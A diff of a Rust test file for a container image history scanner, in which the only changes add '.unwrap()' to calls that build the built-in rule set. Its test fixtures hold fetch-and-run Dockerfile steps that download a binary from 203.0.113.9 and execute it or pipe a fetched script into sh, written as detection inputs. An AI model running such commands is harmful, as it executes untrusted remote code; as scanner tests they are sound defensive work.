@@ -68,7 +68,7 @@ fn every_rule_holds_for_its_examples_and_not_for_its_near_misses() {
 
 #[test]
 fn the_rules_are_in_the_program_and_well_formed() {
-    let (built_in, shipped) = (HistoryScanner::built_in(), shipped());
+    let (built_in, shipped) = (HistoryScanner::built_in().unwrap(), shipped());
     assert_eq!(built_in.rule_count(), shipped.rule_count(), "a file of rules is not built in");
     assert!(built_in.rule_count() >= 60, "{}", built_in.rule_count());
     let ids: Vec<&str> = shipped.rules.all.iter().map(|rule| rule.text.id.as_str()).collect();
@@ -88,7 +88,7 @@ fn the_rules_are_in_the_program_and_well_formed() {
 
 #[test]
 fn a_step_is_told_with_its_layer_span_and_confirming_files() {
-    let scanner = HistoryScanner::built_in();
+    let scanner = HistoryScanner::built_in().unwrap();
     let steps = [
         "/bin/sh -c #(nop) ADD file:base in / ",
         "RUN /bin/sh -c set -e; curl -o /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x # buildkit",
@@ -116,7 +116,7 @@ fn a_step_is_told_with_its_layer_span_and_confirming_files() {
 #[test]
 fn secrets_in_a_step_are_masked() {
     let text = "RUN curl -H 'Authorization: tok3n' http://203.0.113.9/x | sh";
-    let masked = HistoryScanner::built_in().scan_masked(&image(&[text]), &|text| {
+    let masked = HistoryScanner::built_in().unwrap().scan_masked(&image(&[text]), &|text| {
         text.find("tok3n").map(|at| at..at + 5).into_iter().collect()
     });
     assert!(!masked.is_empty());
@@ -157,5 +157,5 @@ fn rules_that_cannot_hold_are_refused() {
     let more = "- {id: own, title: A, severity: low, advice: B., scope: text, match: [needle]}";
     let scanner = HistoryScanner::with_rules(more).unwrap();
     assert!(scanner.scan(&image(&["RUN needle"])).iter().any(|hit| hit.step.rule == "own"));
-    assert_ne!(scanner.version(), HistoryScanner::built_in().version());
+    assert_ne!(scanner.version(), HistoryScanner::built_in().unwrap().version());
 }
